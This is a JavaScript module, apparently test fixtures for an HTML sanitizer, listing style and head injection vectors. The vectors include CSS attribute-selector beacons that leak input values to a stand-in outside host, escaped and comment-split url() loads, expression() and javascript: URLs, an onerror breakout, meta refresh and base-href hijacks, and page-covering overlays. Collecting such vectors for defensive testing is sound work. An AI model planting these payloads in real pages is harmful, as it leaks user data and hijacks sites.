import { call, elsewhere, vectorClass } from './vector';

const beacon = `url(${elsewhere}/seen.png)`;

export const styles = vectorClass('styles and the head', {
  'sheets that load and read': `<style>@import "${elsewhere}/x.css";input[name=stamp][value^=a]{background:${beacon}}</style>`,
  'a sheet that hides the page': `<style>main,header{display:none!important}</style>`,
  'backgrounds, plain and in escapes': `<p style="background:${beacon}">x</p><p style="background:\\75\\72\\6c(${elsewhere}/seen.png)">x</p>`,
  'a background within comments': `<p style="back/**/ground:u/**/rl(${elsewhere});background-image:/**/${beacon}">x</p>`,
  'other properties that load': `<ul style="list-style-image:${beacon};cursor:${beacon},auto;border-image:${beacon} 1"><li style="mask:${beacon}">x</li></ul>`,
  'addresses in sets and variables': `<p style="content:image-set('${elsewhere}/seen.png' 1x);--x:${beacon};background:var(--x)">x</p>`,
  'expressions, bindings and behaviours': `<p style="width:expression(${call});-moz-binding:url(${elsewhere}/x.xml#e);behavior:url(${elsewhere}/x.htc)">x</p>`,
  'a script for a background': `<p style="background:url('javascript:${call}');list-style:url(javascript:${call})">x</p>`,
  'a layer over the page': `<p style="position:fixed;inset:0;z-index:2147483647;background:#fff">x</p>`,
  'a declaration that ends the rule': `<p style="text-align:left;}@import '${elsewhere}/x.css';p{color:red">x</p>`,
  'an allowed declaration that goes on': `<p style="text-align:center;x:y\n;background:${beacon};font-weight:bold url(${elsewhere})">x</p>`,
  'an allowed value that goes on': `<p style="text-align:center\\;background:${beacon}">x</p><p style="text-align:left!important;list-style-type:url(${elsewhere})">y</p>`,
  'a property by a prototype’s name': `<p style="constructor:${beacon};__proto__:${beacon};toString:x">x</p>`,
  'a style within a quotation mark': `<p style='text-align:"</p><img src=gone onerror=${call}>"'>x</p>`,
  'linked sheets': `<link rel="stylesheet" href="${elsewhere}/x.css"><link rel=stylesheet href="data:text/css,main{display:none}">`,
  'links that load ahead or describe the page': `<link rel=preload as=script href=${elsewhere}/x.js><link rel=preconnect href=${elsewhere}><link rel=manifest href=${elsewhere}/m.json><link rel=icon href=${elsewhere}/i.png>`,
  'a page that moves on': `<meta http-equiv="refresh" content="0;url=${elsewhere}/"><meta http-equiv=refresh content="0; url=javascript:${call}">`,
  'a policy, a cookie and a referrer': `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=set-cookie content="sid=1"><meta name=referrer content=unsafe-url>`,
  'another base and target': `<base href="${elsewhere}/"><a href="search">x</a><base target="_top"><a href="/search">y</a>`,
  'a head and a title of its own': `<head><title>Taken over</title><base href=${elsewhere}></head>x`,
  'classes of the page’s own layers': `<div class="fixed inset-0 z-60 bg-paper">A page over the page</div>`,
  'classes of layers that reach out': `<div class="absolute -inset-20 z-60"><a class="absolute -inset-20 z-60" href="/contact">x</a></div><div class="absolute inset-x-0 top-0 h-44 -translate-y-24">y</div>`,
});
